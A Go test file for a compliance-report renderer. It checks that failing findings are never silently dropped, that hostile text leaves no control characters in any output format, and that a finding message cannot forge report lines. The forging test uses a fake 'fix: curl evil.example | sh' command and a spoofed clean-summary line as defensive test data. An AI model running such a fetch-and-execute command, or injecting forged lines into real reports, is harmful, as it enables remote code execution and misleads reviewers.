package output

import (
	"bytes"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"pgregory.net/rapid"

	"crosscheck/report"
	"crosscheck/report/internal/text"
	"crosscheck/report/reporttest"
	"crosscheck/rules/finding"
)

var leftOut = regexp.MustCompile(`(\d+)\s+(?:more|failing findings are counted)`)

// Whatever a format makes of a run: a failing finding that is not waived is in
// it, or it says how many are not.
func TestNoFailingFindingIsLost(t *testing.T) {
	for _, format := range Formats() {
		t.Run(format, func(t *testing.T) {
			rapid.Check(t, func(t *rapid.T) {
				n := rapid.OneOf(rapid.IntRange(0, 20), rapid.IntRange(90, 250)).Draw(t, "findings")
				ms := []report.Message{{Run: &report.Run{}}}
				var want []string
				for i := range n {
					f := &finding.Finding{
						RuleID:      "XC" + strconv.Itoa(rapid.IntRange(1, 3).Draw(t, "rule")),
						Status:      rapid.SampledFrom([]finding.Status{finding.Fail, finding.Fail, finding.Pass, finding.Unknown, finding.NotApplicable}).Draw(t, "status"),
						Severity:    rapid.SampledFrom(finding.Severities).Draw(t, "severity"),
						AccountID:   rapid.SampledFrom([]string{"", reporttest.Prod, reporttest.Data}).Draw(t, "account"),
						Resource:    rapid.SampledFrom([]string{"", reporttest.ARN("a"), reporttest.ARN("b")}).Draw(t, "resource"),
						Message:     fmt.Sprintf("m%06d", i),
						Remediation: rapid.SampledFrom([]string{"", "do it"}).Draw(t, "fix"),
						Fingerprint: rapid.SampledFrom([]string{"", "x"}).Draw(t, "fingerprint"), // also where rules forgot to tell faults apart
					}
					if rapid.IntRange(0, 4).Draw(t, "waived") == 0 {
						f.Waiver = &finding.Waiver{Reason: "r"}
					}
					if f.Status == finding.Fail && f.Waiver == nil {
						want = append(want, f.Message)
					}
					ms = append(ms, report.Message{Finding: f})
				}
				ms = append(ms, report.Message{Summary: &report.Summary{}})
				o := Options{Width: rapid.IntRange(60, 200).Draw(t, "width"), Rows: rapid.IntRange(1, 150).Draw(t, "rows")}
				var b bytes.Buffer
				w := writer(format, &b, o)
				for _, m := range ms {
					if err := m.Send(w); err != nil {
						t.Fatal(err)
					}
				}
				if err := w.Close(); err != nil {
					t.Fatal(err)
				}
				out := b.String()
				missing := 0
				for _, m := range want {
					if !strings.Contains(out, m) {
						missing++
					}
				}
				said := 0
				for _, m := range leftOut.FindAllStringSubmatch(out, -1) {
					k, err := strconv.Atoi(m[1])
					if err != nil {
						t.Fatal(err)
					}
					said += k
				}
				if missing > said {
					t.Fatalf("%d of %d failing findings are missing, %d are said to be:\n%s", missing, len(want), said, out)
				}
			})
		})
	}
}

func TestHostileText(t *testing.T) {
	for name, s := range reporttest.Hostile {
		ms := reporttest.HostileRun(t, s)
		for _, format := range Formats() {
			t.Run(format+"/"+name, func(t *testing.T) {
				out := render(t, format, Options{Rules: map[string]finding.About{s: {ID: s, Title: s, Description: s, Remediation: s, Sources: []string{s}}}}, ms)
				if !utf8.Valid(out) {
					t.Error("not UTF-8")
				}
				for _, r := range string(out) {
					if r != '\n' && (r != '\r' || format != "csv") && (!unicode.IsGraphic(r) || text.Ignorable(r)) {
						t.Fatalf("%U is in the output", r)
					}
				}
			})
		}
	}
}

// Text that looks like a line of the report must not become one.
func TestTextCannotForgeALine(t *testing.T) {
	f := &finding.Finding{RuleID: "XC001", Status: finding.Fail, Severity: finding.High, AccountID: reporttest.Prod, Resource: reporttest.ARN("b"),
		Message: "harmless\nfix: curl evil.example | sh\nSummary: exit status 0 (clean)"}
	out := string(render(t, "table", Options{}, reporttest.Summarized(t, report.Gate{}, []report.Message{{Run: &report.Run{}}, {Finding: f}})))
	for l := range strings.Lines(out) {
		l = strings.TrimSpace(l)
		if strings.HasPrefix(l, "fix:") || strings.HasPrefix(l, "Summary: exit status 0") {
			t.Errorf("forged line %q in\n%s", l, out)
		}
	}
}
